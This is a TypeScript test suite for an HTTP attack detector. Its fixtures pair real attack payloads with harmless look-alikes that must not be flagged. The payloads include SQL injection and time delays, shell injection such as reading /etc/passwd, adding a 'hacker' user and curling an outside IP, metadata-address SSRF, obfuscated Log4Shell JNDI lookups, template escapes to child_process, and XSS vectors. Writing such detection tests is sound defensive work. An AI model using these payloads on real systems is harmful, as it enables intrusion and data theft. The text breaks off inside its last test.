import t from 'tap'
import { AttackDetector, jndiLookup, type AttackInputs, type AttackType } from '../../src/insight/attacks.ts'
import { sqlInjection, sqlStatement } from '../../src/insight/sql.ts'
import { bareCommand, shellInjection } from '../../src/insight/shell.ts'
import { jsonStrings, xmlTexts } from '../../src/insight/decode.ts'
import { defaultDetector } from '../helpers/detector.ts'

// The detector's signature families (docs/detection.md), each with what it matches and what it
// deliberately does not. attacks.test.ts keeps the older behaviour and the ReDoS checks.

const detector = defaultDetector()
const base: AttackInputs = { path: '/api/items', query: '', headers: { host: 'shop.example.com', 'user-agent': 'Mozilla/5.0 Firefox/127.0' }, body: null }
const q = (value: string, name = 'q') => detector.detect({ ...base, query: `${name}=${encodeURIComponent(value)}` })
const json = (doc: unknown, headers: Record<string, string> = {}) => detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/json', ...headers }, body: Buffer.from(JSON.stringify(doc)) })
const header = (name: string, value: string) => detector.detect({ ...base, headers: { ...base.headers, [name]: value } })
/** each value reported as `cls` both as a query's value and as a JSON body's field */
function readAsQueryAndJson(tt: { ok(ok: unknown, message: string): unknown }, values: readonly string[], cls: AttackType = 'xss'): void {
  for (const v of values) {
    tt.ok(q(v).includes(cls), v)
    tt.ok(json({ v }).includes(cls), `${v} (JSON)`)
  }
}

t.test('SQL on tokens: breakouts in every context, SQL without a leading quote', async (t) => {
  for (const p of [
    "' or ''-'", "1'OR'a='a", '" or ""&"', "') or ('x')=('x", 'admin\'--', "admin') or ('1'='1'--",
    ' ORDER BY 18-- ', "'+ SLEEP(10) + '", '1 AND 7506=9091 AND (5913=5913', 'HAVING 1=1#', 'WHERE 1=1 AND 1=0',
    "',NULL,NULL)waitfor delay '0:0:20' /*", 'benchmark(50000000,MD5(1))--', '(SELECT * FROM (SELECT(SLEEP(5)))ecMj)#',
    "'; exec master..xp_cmdshell 'ipconfig'--", '1 union all select 1,2,3--', "‘ or 1=1 --", 'select * from sysusers',
    "' if(benchmark(3000000,md5(1)),null,null))  /*",
  ]) t.ok(sqlInjection(p.toLowerCase()), p)
  for (const p of [
    "O'Brien", "I read 'Dune' and others like it", "Chris' and Anna's wedding", 'Please select the items from the list',
    'SELECT * FROM users is slow, any idea?', 'SELECT name FROM products WHERE price < 10 -- is this right?', 'Select 3 options',
    'time.sleep(5)', "print('#')", "\"Is the poor gentleman much hurt?\" she asked.", 'Delete from cart?, my_var = os.getenv("HOME")',
    'cats and 1', 'if not isinstance(x, list) or not all(\n y >= 0 for y in x\n):', '# /// script\n# requires-python = ">=3.13"',
  ]) t.notOk(sqlInjection(p.toLowerCase()), p)
  t.ok(sqlStatement('select a from b'), 'a statement from its first word')
  t.same(q(' ORDER BY 18-- '), ['sqli'])
})

t.test('shell on its grammar: separators then a program, substitutions, quote contexts, bare recon', async (t) => {
  for (const p of ['&& ls -laR /etc', '| netsh firewall show state', '&& dir C:\\Users', "'|id|'", '$(whoami)', 'x`id`', ';$CMD', 'who$@ami', 'cat${IFS}/etc/passwd', '; net user hacker P@ss /ADD', '%0a id %0a'.replace(/%0a/g, '\n')]) {
    t.ok(shellInjection(p.toLowerCase()) || bareCommand(p.toLowerCase()), p)
  }
  for (const p of ['Tom & Jerry', 'salt & pepper | more', 'definitions, & more', 'Run `ls -la` to see hidden files', "pub fn f(q: &str) -> Vec<&'a str>", '"""\nBase32 encoding\n"""', 'curl hair', 'cat food', 'ls -la']) {
    t.notOk(shellInjection(p.toLowerCase()) || bareCommand(p.toLowerCase()), p)
  }
  t.ok(bareCommand('ipconfig /all'), 'a recon program on its own')
  t.ok(bareCommand('ls -l /etc'), 'a listing aimed at the system')
  t.ok(bareCommand('ls -l /'), 'a listing of the root')
  t.ok(bareCommand('net localgroup administrators hacker /add'), "a sub-command's own words")
  t.same(header('cookie', 'prefs=%26%26+dir+c:%5C'), ['rce'], 'a URL-encoded cookie value decoded as a form is')
  t.notOk(bareCommand('ruby keeling'), 'an interpreter as a first name needs its option')
  t.same(json({ steps: [{ run: 'npm ci && npm test' }] }), [], "a body's command field holds a command line")
  t.same(json({ name: 'x; cat /etc/passwd' }), ['path_traversal', 'rce'])
})

t.test('SSRF in context: the request\'s own authority, parameter names, documents, spellings', async (t) => {
  // the registry case: an npm publish carries its own tarball URL, at the registry's own address
  const publish = (host: string) => json({ _id: 'pkg', name: 'pkg', versions: { '1.0.0': { name: 'pkg', version: '1.0.0', dist: { tarball: `http://${host}/pkg/-/pkg-1.0.0.tgz`, shasum: 'abc' } } }, _attachments: { 'pkg-1.0.0.tgz': { content_type: 'application/octet-stream', data: 'H4sIAAAA', length: 8 } } }, { host })
  t.same(publish('127.0.0.1:4873'), [], 'a URL back at the host the request was sent to')
  t.same(publish('localhost:4873'), [], 'loopback asked for by a client on loopback')
  t.same(json({ url: 'http://127.0.0.1:4873/pkg' }, { host: 'registry.example.com' }), ['ssrf'], 'the same URL sent to a public host')
  t.same(json({ url: 'http://10.0.0.5/admin' }, { host: 'api.example.com', 'x-forwarded-host': '10.0.0.5' }), ['ssrf'], 'a private address named in X-Forwarded-Host (any client writes it) is not the own authority')
  t.same(json({ url: 'http://10.0.0.5/admin' }, { host: '10.0.0.5' }), [], 'the Host a request reached is')
  t.same(q('http://10.0.0.5/admin', 'image_url'), ['ssrf'])
  t.same(q('http://10.0.0.5/admin', 'q'), [], 'a private URL searched for, not fetched')
  t.same(q('http://169.254.169.254/latest/meta-data/', 'q'), ['ssrf'], 'a metadata address under any name')
  for (const spelling of ['http://2130706433/', 'http://0x7f.1/', 'http://0177.0.0.1/', 'http://127.0.0.256/', 'http://⑯⑨。②⑤④。⑯⑨。②⑤④/', 'http://127.1.1.1:80\\@@127.2.2.2:80/', 'http://metadata.google.internal/', 'http://127.0.0.1.nip.io/']) {
    t.ok(q(spelling, 'url').includes('ssrf'), spelling)
  }
  t.same(q('0x7f000001', 'callback'), ['ssrf'], 'a bare address under a URL parameter')
  t.same(q('gopher://127.0.0.1:6379/_INFO', 'q'), ['ssrf'], 'a smuggling scheme')
  t.same(q('https://example.com/a', 'url'), [])
  t.same(header('referer', 'http://localhost:3000/checkout'), [], "the browser's own page URL")
})

t.test('path traversal by kind: climbing, absolute inclusion targets, encodings', async (t) => {
  for (const p of ['/etc/hosts.deny', '/var/log/maillog', 'C:/xampp/apache/conf/httpd.conf', '..%u2215..%u2215..%u2215etc/passwd', '%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/shadow', '..0x2f..0x2fetc/passwd', 'members/.htpasswd', '\\logs\\access_log']) {
    t.same(q(p, 'file'), ['path_traversal'], p)
  }
  t.same(q('/configuration.php', 'page'), ['path_traversal'], 'a server file under a file parameter')
  t.same(q('/configuration.php', 'q'), [], 'not under any parameter')
  t.same(q("import Comparator from '../../../utils/comparator/Comparator'"), [], 'a relative import in code')
  t.same(q('C:/Users/ann/Documents/notes.txt', 'file'), [], "a user's own document")
  // (thirtieth round) a browser's file input value and a user's picture or document outside a system's or a server's directories
  for (const p of ['C:\\fakepath\\holiday photo.png', 'c:\\HappyFace.jpg', 'D:\\data\\2024 report.pdf', 'E:/Music/song.mp3']) t.same(q(p, 'file'), [], p)
  for (const p of ['C:\\fakepath\\..\\windows\\win.ini', 'C:/windows/system32/license.rtf', 'C:\\xampp\\htdocs\\logo.png', 'C:\\Program Files (x86)\\App\\manual.pdf', 'c:\\a\\..\\..\\secret.csv', 'c:\\boot.ini']) {
    t.same(q(p, 'file'), ['path_traversal'], `still read: ${p}`)
  }
  t.same(q('see ../README.md'), [])
})

t.test('template injection (ssti): expressions in a template language, not placeholders', async (t) => {
  for (const p of ['{{7*7}}', '${7*7}', '<%= 7*7 %>', '#{7*7}', "{{''.__class__.__mro__[1].__subclasses__()}}", "{{['id']|filter('system')}}", '<#assign ex="freemarker.template.utility.Execute"?new()>', '{{ request }}']) {
    t.ok(q(p).includes('ssti'), p)
  }
  for (const p of ['Hello ${name}, your order {{order_id}} shipped', 'List the files: `ls {{path/to/file}}` and then go on', '{{#rustdoc_include ../listings/x.rs}}', '${workspaceFolder}/src']) t.same(q(p), [], p)
})

t.test('server-side includes (ssi)', async (t) => {
  t.same(q('<!--#echo var="DOCUMENT_ROOT"-->'), ['ssi'])
  t.same(q('<!--#exec cmd="id"-->'), ['rce', 'ssi'], 'an exec include runs a command')
  t.same(q('<esi:include src="http://evil.example/x"/>'), ['ssi'])
  t.same(q('<!-- a comment -->'), [])
})

t.test('response splitting (crlf): a header or a body after a line break where none belongs', async (t) => {
  t.same(detector.detect({ ...base, query: 'lang=en%0d%0aSet-Cookie:%20admin=1' }), ['crlf'])
  t.same(detector.detect({ ...base, path: '/%0d%0aLocation:%20https://evil.example/' }), ['crlf'])
  t.same(detector.detect({ ...base, query: 'q=crlf%E5%98%8A%E5%98%8DHeader-Test:x' }), ['crlf'], 'the 嘊嘍 bytes some servers cut to CR LF')
  t.same(detector.detect({ ...base, query: 'q=Hi%0aName:%20Bob' }), [], 'a message with a line that looks like a field')
  t.same(json({ note: 'x\r\nSet-Cookie: a=1' }), [], 'a JSON body does not end up in response headers')
})

t.test('open redirects: disguised URLs in redirect parameters and paths; plain OAuth return URLs are not', async (t) => {
  for (const p of ['//evil.example/', '/\\evil.example', 'https:evil.example', 'https://trusted.example@evil.example/', '/\t/evil.example', 'javascript:alert(1)', 'https://evil.example%23.trusted.example/', 'ゝevil.example']) {
    t.ok(q(p, 'next').includes('open_redirect'), p)
  }
  t.same(q('https://app.example.com/callback', 'redirect_uri'), [])
  t.same(q('/account/settings', 'next'), [])
  t.same(json({ cdn: { url: '//fonts.example.net/css' } }), [], "a body's `url` field is a resource's, not a redirect")
  t.same(json({ redirect_uri: '//evil.example/' }), ['open_redirect'], "a body's redirect field is one")
  t.same(q('//evil.example/', 'q'), [], 'not a redirect parameter')
  t.same(detector.detect({ ...base, path: '//evil.example/%2f..' }), ['open_redirect'])
  t.same(detector.detect({ ...base, path: '/redirect/evil.example' }), ['open_redirect'])
})

t.test('backup and configuration probes (scanner)', async (t) => {
  for (const p of ['/admin.php.bak', '/index.php~', '/config.inc.old', '/Copy%20of%20login.asp', '/.bash_history', '/.login.php.swp', '/vtund.conf', '/actuator/env', '/db.sql']) {
    t.same(detector.detect({ ...base, path: p }), ['scanner'], p)
  }
  t.same(detector.detect({ ...base, path: '/.well-known/openid-configuration' }), [])
  t.same(detector.detect({ ...base, path: '/api/v1/items/42' }), [])
})

t.test('Log4Shell lookups resolved as Log4j does', async (t) => {
  for (const p of ['${jnd${upper:ı}:ldap://x.example/a}', '${j${k8s:k5:-ND}i:ldap://x.example/a}', '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}", '${jndi:ldap://${env:USER}.x.example/a}']) {
    t.ok(jndiLookup(p.toLowerCase()), p)
  }
  t.notOk(jndiLookup('hello ${name}, ${env:home}'), 'lookups that are no JNDI')
  t.same(header('x-api-version', '${j${k8s:k5:-ND}i:ldap://x.example/a}'), ['jndi'], 'reported as jndi, not ssrf')
})

t.test('NoSQL JavaScript and LDAP filter breaking', async (t) => {
  t.same(json({ q: "true, $where: '1 == 1'" }), ['nosqli'])
  t.same(q('0;return true'), ['nosqli'])
  t.same(q("' || '1'=='1"), ['sqli', 'nosqli'])
  t.same(q('*)(&', 'user'), ['ldapi'])
  t.same(q('(&(sn=administrator)(password=M*))', 'user'), ['ldapi'])
  t.same(q('f(x)(y) = 2'), [])
})

t.test('XSS: legacy vectors and script sinks on their own', async (t) => {
  for (const p of ['<IMG DYNSRC="javascript:alert(\'XSS\')">', '<STYLE>BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>', '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">', '<BR SIZE="&{alert(\'XSS\')}">', '}alert(1);{//', 'a=eval;b=alert;a(b(1))', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 'A” autofocus onfocus=alert(1)//']) {
    t.ok(q(p).includes('xss'), p)
  }
  t.same(q('<object type="image/svg+xml" data="diagram.svg">Diagram</object>'), [], 'an SVG embedded as an object')
  t.same(q('The top-level `<script>` element serves as a container for the component code.'), [], 'markup quoted as code in prose')
})

t.test('every place a client can put a value is read', async (t) => {
  const xss = '<svg onload=alert(1)>'
  t.same(header('x-custom-data', xss), ['xss'], 'a custom header')
  t.same(header('cookie', `theme=dark; ${encodeURIComponent(xss)}=1`), ['xss'], "a cookie's name")
  t.same(detector.detect({ ...base, query: `${encodeURIComponent(xss)}=1` }), ['xss'], "a parameter's name")
  t.same(detector.detect({ ...base, path: `/api/users/${encodeURIComponent("1' OR '1'='1")}` }), ['sqli'], 'a path segment')
  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/xml' }, body: Buffer.from('<order><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>') }), ['xss'], "an XML document's text")
  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/xml' }, body: Buffer.from('<feed><link>https://example.com/</link><title>News</title></feed>') }), [], 'an XML element named like an HTML tag')
  t.same(detector.detect({ ...base, headers: { ...base.headers, 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(`payload=${encodeURIComponent(JSON.stringify({ a: '<svg onload=alert(1)>' }))}`) }), ['xss'], 'a JSON document inside a form field')
  t.same(header('accept-language', "en-US,en;q=0.9,' or 1=1"), [], 'transport headers a browser sets are not read')
})

t.test('documents: a configuration names its own services, files and commands', async (t) => {
  const config = { name: 'app', services: { api: { url: 'http://localhost:8080', command: 'node server.js && echo ready', logs: '/var/log/app.log' } }, env: { NODE_ENV: 'production', PORT: '8080' }, build: { dir: '/tmp/build', steps: ['npm ci', 'npm test'] }, owner: 'ops', region: 'eu-west-1', tier: 'gold' }
  t.same(json(config), [])
  t.same(json({ ...config, hook: 'http://169.254.169.254/latest/meta-data/' }), ['ssrf'], 'a metadata address even in a document')
})

t.test('decoding helpers: JSON keys with values and depth, XML text and attributes', async (t) => {
  const values = new Map<string, string>()
  const keys = new Set<string>()
  t.equal(jsonStrings({ a: { b: ['x', { c: 'y' }] } }, values, keys), 4)
  t.same([...values], [['x', 'b'], ['y', 'c']])
  const out: string[] = []
  xmlTexts('<?xml version="1.0"?><a href="u"><b>t1</b><![CDATA[<raw>]]><!-- c --></a>', out)
  t.same(out, ['href', 'u', 'b', 't1', 'b', '<raw>'])
})

// ---- issue 22, second round: gaps found on the public evaluation's tuning half, closed by kind ------

const raw = (inputs: Partial<AttackInputs>) => detector.detect({ ...base, ...inputs, headers: { ...base.headers, ...inputs.headers } })
const form = (body: string) => raw({ headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from(body) })
/** a value sent as a form's `snippet` field, as a code-sharing page posts it */
const field = (v: string) => form(`snippet=${encodeURIComponent(v)}`)

t.test('a few JSON fields are read even with no suspicious byte: bare addresses, paths, commands', async (t) => {
  t.same(json({ webhook_url: '127.0.0.1' }), ['ssrf'])
  t.same(json({ source: '0x7f.0x0.0.1' }), ['ssrf'])
  t.same(json({ source: '0000:0000:0000:0000:0000:0000:0000:0001' }), ['ssrf'])
  t.same(json({ source: 'http:127.0.0.1/' }), ['ssrf'])
  t.same(json({ path: 'C:/mysql/data/mysql.log' }), ['path_traversal'])
  t.same(json({ name: 'ipconfig' }), ['rce'])
  t.same(json({ redirect_uri: 'http:www.trusted.example@0xd8.0x3a.0xd6.0xce' }), ['open_redirect'])
  // what stays quiet: the same shapes where they are data
  t.same(json({ id: 7, name: 'Ann', price: '12.50', version: '1.2.3', ip: '203.0.113.7' }), [])
  t.same(json({ homepage: 'https://example.com', release: '10.5.1' }), [])
})

t.test('traversal: backslash climbs, odd separators, long prefixes, .. then NUL, Program Files', async (t) => {
  t.same(q('/%252e%252e\\%252e%252e\\%252e%252e\\%252e%252e\\', 'file'), ['path_traversal'])
  t.same(q('%\\..%\\..%\\..%\\..%\\..%', 'template'), ['path_traversal'])
  t.same(q('..\uf025..\uf025..\uf025etc\uf025issue', 'page'), ['path_traversal'])
  t.same(q('..2fetc2fpasswd\0', 'x'), ['path_traversal'])
  t.same(q(`/${'A'.repeat(200)}/../../../../etc`, 'x'), ['path_traversal'])
  t.same(q('/Program Files\\Apache Group\\Apache\\logs\\error.log', 'page'), ['path_traversal'])
  t.same(q('Wait.. what.. no..'), [])
  t.same(q('/docs/program-files-explained'), [])
})

t.test('SSRF: an authority parsers read differently, naming several hosts', async (t) => {
  t.same(q('http://1.1.1.1 &@2.2.2.2# @3.3.3.3/', 'url'), ['ssrf', 'open_redirect'], 'under url, a redirect parameter too (sixth round)')
  t.same(q('http://user:secret@api.example.com/v1', 'endpoint'), [])
  t.same(q('see http://a.example.com & mail b@c.example.org'), [])
})

t.test('open redirects: sanitiser leftovers, hosts as paths, redirectors handed over', async (t) => {
  for (const v of ['/<>//evil.example', '<>//evil.example', '/www.evil-site.example', '/evil.example.org//', 'http://.evil.example', '/out?//attacker.example.net', '/https://evil.example/']) {
    t.same(q(v, 'redirect'), ['open_redirect'], v)
  }
  t.same(raw({ path: '/out', query: 'attacker.example.net' }), ['open_redirect'])
  t.same(raw({ path: '/evil.example/%2f%2e%2e' }), ['open_redirect'])
  // a relative page, a plain file path, a redirector with parameters of its own stay quiet
  for (const v of ['/account/settings', '/index.html', '/docs/v1.2/intro', 'https://accounts.example.com/cb']) t.same(q(v, 'next'), [], v)
  t.same(raw({ path: '/out', query: 'page=2' }), [])
  t.same(raw({ path: '/static/app.min.js/' }), [])
})

t.test('JNDI tangles with unbalanced braces, CRLF after blanks, a single LDAP clause probing', async (t) => {
  t.ok(jndiLookup('${${::-j}${${::-n}${${::-d}${${::-i}:${::-l}${${::-d}${${::-a}${${::-p}://${hostname}.test/a}'))
  t.notOk(jndiLookup('${${env:HOME}'))
  t.same(q(' \rHeader-Test: x', 'lang'), ['crlf'])
  t.same(q('(password=X*)', 'user'), ['ldapi'])
  t.same(q('(see below*)'), [])
  t.same(q('f(x=2*3)'), [])
})

t.test('template injection: end tags, a mustache expression reaching Node', async (t) => {
  t.same(q('{{e.user.get_username}} : {{e.user.password}}{% endfor %}'), ['ssti'])
  t.ok(q(`{{this.push "return require('child_process').execSync('ls -la');"}}`).includes('ssti'))
  t.same(q('{{this.pop}}'), ['ssti'])
  t.same(q('Hello {{name}}, your order {{order_id}} shipped'), [])
  t.same(q('{{this.title}} by {{this.author}}'), [])
})

t.test('XSS: namespaced animation, handler and sink in one tag, a sink after an expression, disguised links', async (t) => {
  t.same(q('<t:set attributeName="innerHTML" to="x">'), ['xss'])
  t.same(q('<img src onerror /" \'"= alt=alert(1)//">'), ['xss'])
  t.same(q('x.toXMLString().match(/.*/m),alert(RegExp.input);'), ['xss'])
  t.same(q('<A HREF="http://6&#09;6.000146.0x7.147/">XSS</A>'), ['xss'])
  t.same(q('<a href="http://0x42.0x0000066.0x7.0x93/">x</a>'), ['xss'])
  t.same(q('<A HREF="http://trusted.example@evil.example">XSS</A>'), ['xss'])
  t.same(q('<div id="67"><!DOCTYPE x [ <!ATTLIST img xmlns CDATA "http://www.w3.org/1999/xhtml" src CDATA "xx:x" onerror CDATA "alert(67)">]><img />'), ['xss', 'xxe'])
  t.same(q('\'\';!--"<XSS>=&{()}'), ['xss'])
  t.same(q('xss&#58;ex&#x2F;*XSS*//*/*/pression(alert(\\"XSS\\"))\'&gt;'), ['xss'])
  t.same(raw({ path: '/api/items/&store=%27,init%29%29;}if%281==1%29{confirm%28/XSSPOSED/%29;//' }), ['xss'])
  t.same(raw({ path: '/wiki/Mercury_(planet)/history' }), [])
  t.same(q('let r = &{ x }; y = &mut z'), [])
  // a plain link, a version list in prose
  t.same(q('<a href="https://example.com/docs">docs</a>'), [])
  t.same(q('Tested on Chrome (any version), Firefox (1.5), alert levels (2)'), [])
})

t.test('shell: + for blanks, a reader on a Windows path, redirections, substitutions in a word, leading line breaks', async (t) => {
  for (const v of ['+|+dir+c:\\+|', '$&&dir+c:/', '\n+dir+c:/', 'dir C:\\Documents and Settings\\*', "psql -o'|id>/tmp/foo'", 'who$(echo am)i', '\\necho INJECTX\\nexit\\n\\033[2Asleep 5\\n', '\\n\\033[2curl http://198.51.100.7/t.txt', 'which gcc']) {
    t.ok(shellInjection(v.toLowerCase()) || bareCommand(v.toLowerCase()), v)
  }
  t.same(header('x-client-data', '+|+Dir+c:%2f'), ['rce'])
  t.same(raw({ path: "/api/v1/items/perl%20-e%20'print%20%22X%22x4096'" }), ['rce'])
  t.same(form('comment=' + encodeURIComponent("system('echo " + 'X'.repeat(400))), ['rce'])
  // what stays quiet: + in data, which in a question, a jQuery call, an English line after a break
  for (const v of ['a+b=c', 'c++ & rust', 'which is best?', 'which one', '$(document).ready(f)', 'price$(usd)', '\nDear team,\nthanks\nsee you', '\n### Setup\n\nYou will make a directory\nls = []\ncat = "x"', '\\033[1mBold\\033[0m text']) {
    t.notOk(shellInjection(v.toLowerCase()) || bareCommand(v.toLowerCase()), v)
  }
  t.same(raw({ path: '/api/whoami' }), [])
})

t.test('JSON documents: a JSON text inside a document, nesting with several fields, a schema', async (t) => {
  const createOptions = JSON.stringify({ HostConfig: { Binds: ['/var/run/docker.sock:/var/run/docker.sock'], NetworkMode: 'host' } })
  t.same(json({ modules: { a: { settings: { createOptions, image: 'registry/x:1' }, status: 'running', type: 'docker', version: '1.0', env: { A: { value: '1' }, B: { value: '2' } }, restartPolicy: 'always' } } }), [])
  const prisma = JSON.stringify({ datamodel: 'datamodel.prisma', endpoint: 'http://localhost:4466/myservice/dev', generate: [{ generator: 'javascript-client', output: './generated/prisma' }], hooks: { 'post-deploy': ['prisma1 generate'] }, secret: 'mysecret42' })
  t.same(form(`payload=${encodeURIComponent(prisma)}`), [])
  t.same(json({ $schema: 'https://json.schemastore.org/x', url: 'http://localhost:8080/' }), [])
  // a request's few fields, even nested, still count
  t.same(json({ config: { url: 'http://localhost:8080/admin' } }), ['ssrf'])
  t.same(json({ data: { attributes: { url: 'http://127.0.0.1/' } } }), ['ssrf'])
})

t.test('splitting encoded inside itself, any SSI directive, LDAP filters starting with an operator', async (t) => {
  t.same(raw({ path: '/%%0a0aSet-Cookie:crlf=injection' }), ['crlf'])
  t.same(q('%%0a0aSet-Cookie:crlf=injection', 'lang'), ['crlf'])
  t.same(q('100% \nsure'), [])
  t.same(q('<!--#directive param="value" -->'), ['ssi'])
  t.same(q('<!-- a comment -->'), [])
  t.same(q('&(objectClass=*)', 'user'), ['ldapi'])
  t.same(q('!(cn=admin)', 'filter'), ['ldapi'])
  t.same(q('Tom & (Jerry)'), [])
})

// ---- third round (2026-12-02), tuned on the spent fresh part: each family with what it leaves alone ----

t.test('template probes in a short value: literals in delimiters, scriptlets, Go and Mustache, polyglots', async (t) => {
  for (const p of [
    '{{7}}', '<%=1%>', '#{1}', '${"aaaa"}', '[[${1}]]', '<%= foo %>', '<%%a%>', '{{ .Password }}', '{{printf "%s" "ssti" }}', '{{html "ssti"}}',
    'SH{{#foo}}NO{{/foo}}OW', 'SH{{=N O=}}OW', '{{ 7 | times:7 }}', "{{'a'.concat('b')}}", '{% widthratio 7 1 7 %}', '@(1+2)', '@{ <= ERROR!',
    'p ">[[${{1}}]]', '__${path}__', '${sessionScope.toString()}', '<%=1%>#{2}{{a}}', '{#${{1}}#}}', '{{ 7*7', '{{settings.SECRET_KEY}}', '#{""["class"]}',
  ]) t.ok(q(p).includes('ssti'), p)
  // placeholders, a message's fields, a long document quoting template syntax, e-mail addresses
  for (const p of ['{{user}}', '${foobar}', 'welcome {{user}}', 'Hello ${name}, your order {{order_id}} shipped', '{{#rustdoc_include ../listings/x.rs}}', 'ann@(home)', 'Price: ${price}']) t.same(q(p), [], p)
  const doc = `# Templates\n\nWrite {{ .Name }} or <%= name %> in a template; the engine fills it in.\n\n${'More prose about templates and their fields. '.repeat(8)}`
  t.same(json({ title: 'docs', body: doc, a: '1', b: '2', c: '3', d: '4', e: '5', f: '6', g: '7', h: '8', i: '9', j: '10', k: '11' }), [], 'a document quoting template syntax')
})

t.test('scanner: archives at the root, packed dumps, manifests and secret files', async (t) => {
  for (const path of ['/www.tar.gz', '/2023.zip', '/backup.7z', '/db.sql.tar.bzip2', '/data.sql.gz', '/shop/dump.sql.zip', '/composer.json', '/app/composer.lock', '/pom.xml', '/phpunit.xml.dist', '/WEB-INF/config.xml', '/nbproject/private/private.xml', '/client_secret.json', '/env.json', '/certs/apiserver-client.crt']) {
    t.same(raw({ path }), ['scanner'], path)
  }
  // a download in a folder, a document an app serves, an API's JSON
  for (const path of ['/downloads/release-1.2.zip', '/static/app.tar.gz', '/sitemap.xml', '/manifest.json', '/api/orders.json', '/config.json']) t.same(raw({ path }), [], path)
})

t.test('response splitting: after a header or a request line, any glued name in a short value', async (t) => {
  t.same(q('%0d%0aheader:header', 'next'), ['crlf'])
  t.same(q('/%23%0dheader:header', 'next'), ['crlf'])
  t.same(q('\u560a\u560dheader:header'), ['crlf'])
  t.same(form(`page=${encodeURIComponent('User-Agent: Mozilla\r\nEvil-Log-Entry: x')}`), ['crlf'])
  t.same(q('GET / HTTP/1.1\r\nHost: example.com\r\n\r\nGET /evil HTTP/1.1'), ['crlf'])
  // a multi-line note, a URL on the next line, a document with front matter
  t.same(q('first\nsecond: third'), [])
  t.same(q('see\nhttp://example.com/x'), [])
  t.same(form(`body=${encodeURIComponent(`---\ntitle: Notes\ndate: 2024-01-01\n---\n\n${'Some text. '.repeat(40)}`)}`), [])
  t.same(form(`body=${encodeURIComponent('---\ntitle: "v19"\nauthor: The Team\ndate: 2024/12/05\n---\n\nShort news.')}`), [], 'a short front matter')
})

t.test('open redirects: nested redirects, bare hosts, authority tricks, a URL later in a path', async (t) => {
  for (const [v, name] of [
    ['https://target.com/redirect?url=https://evil.com', 'redirect'], ['evil.com', 'redir'], ['target.com@evil.com', 'redir'], ['@google.com', 'url'], ['.localdomain.pw', 'return_to'],
    ['https://evil.com%00.target.com', 'redirect'], ['https://evil.com?.target.com', 'redirect'], ['https://target.com//evil.com', 'url'], ['https://evil.c\u2100.example.com', 'return_to'],
    ['/auth/forward/https://evil.com', 'url'],
  ] as const) t.same(q(v, name), ['open_redirect'], `${name}=${v}`)
  // a site's own host, its own nested return page, a page name, a plain absolute URL (how logins name their return page)
  for (const [v, name] of [['shop.example.com', 'next'], ['app.shop.example.com', 'next'], ['index.html', 'next'], ['https://a.example/login?next=https://a.example/home', 'next'], ['https://partner.example/cb', 'redirect_uri']] as const) {
    t.same(q(v, name), [], `${name}=${v}`)
  }
})

t.test('SQL: a URL whose query carries it, delays after typographic quotes, tautologies in a statement', async (t) => {
  for (const p of [
    'https://www.example.com/product.php?id=10 AND 1=2', 'http://vulnerable-website.com/Less-1/?id=-1 order by 3', '/page.php?id=1 union select 1,2--',
    "?id=1' or '1'='1", '“ or pg_sleep(5) —', '“;waitfor delay ‘0:0:5’ —', "SELECT * FROM Users WHERE Username='1' OR '1' = '1' AND Password='1' OR '1' = '1'",
    "SELECT field1 FROM Users WHERE Id='1' OR ASCII(SUBSTRING(username,1,1))=97 AND '1'='1'", '‘;waitfor delay ‘0:0:5’ —',
  ]) t.ok(q(p).includes('sqli'), p)
  t.same(header('x-client-data', "'+OR+1=1--"), ['sqli'], 'written with + for its blanks in a header')
  t.same(header('x-client-data', 'a+b=c+and+more'), [], 'a + between words is no breakout')
  // a link with a query, a report's statement, prose quoting with typographic quotes
  for (const p of ['https://www.example.com/search?q=cats and dogs&page=2', "SELECT name FROM products WHERE category = 'Gifts'", '‘--so long as I get SOMEWHERE,’ Alice added as an explanation.', '‘--you advance twice--’']) {
    t.same(q(p), [], p)
  }
})

t.test('Markdown: long or unclosed code fences and image captions are quoted text; HTML references are no separators', async (t) => {
  const block = `\`\`\`jsx\n${'<button onClick={() => setCount(count + 1)}>+</button>\n'.repeat(90)}\`\`\``
  t.same(json({ body: `## Counter\n\nA button:\n\n${block}\n\nThat is all.` }), [], 'a fence longer than 4,000 characters')
  t.same(json({ body: `## Counter\n\nA button:\n\n\`\`\`html\n<script>alert(1)</script>\n<button onclick="go()">` }), [], 'a fence left open by a cut')
  t.same(json({ body: "# The Art\n\n![curl -s 'https://x/README.md' | egrep -o '`\\w+`' | tr -d '`' | cowsay -W50](cowsay.png)\n\nFluency on the command line is a skill." }), [], 'an image caption')
  t.same(json({ body: '# Not quoted\n\nText then <script>alert(1)</script> outside any fence.\n\n```js\nx()\n```' }), ['xss'], 'markup outside the fences still counts')
  t.notOk(shellInjection('big dip o&rsquo;ruby, carmine (m&amp;p), caf&eacute; au lait'), 'character references')
  t.ok(shellInjection('x&id;'), 'a reference naming a program is still a separator')
})

t.test('NoSQL JavaScript, bash substrings and brace expansion, script URLs after a comma, globals called through call', async (t) => {
  for (const p of [';return true;', "&& 'a'=='a' && 'a'=='a", "&& 'a'!='a' && 'a'!='a", '"$lookup":{', '"$match":{']) t.ok(q(p, 'user').includes('nosqli'), p)
  for (const p of ['${LS_COLORS:10:1}', ';{cat,/etc/passwd}', 'ls${LS_COLORS:10:1}${IFS}id']) t.ok(q(p).includes('rce'), p)
  for (const p of ['?goto,javascript:alert(1)', "window['a'+'l'+'e'+'r'+'t'].call(this,1)", "top['a'+'l'+'e'+'r'+'t'].apply(this,[1])", '[alert][0].call(this,1)', "'/alert(1)//",
    "<img\\nsrc=x\\nonerror=alert('XSS')>", "<strong class=\"ng-init:constructor.constructor('alert(1)')()\">aaa</strong>", '{onerror=eval}throw"=alert(1)"', "import('data:text/javascript,alert(1)')",
  ]) t.ok(q(p).includes('xss'), p)
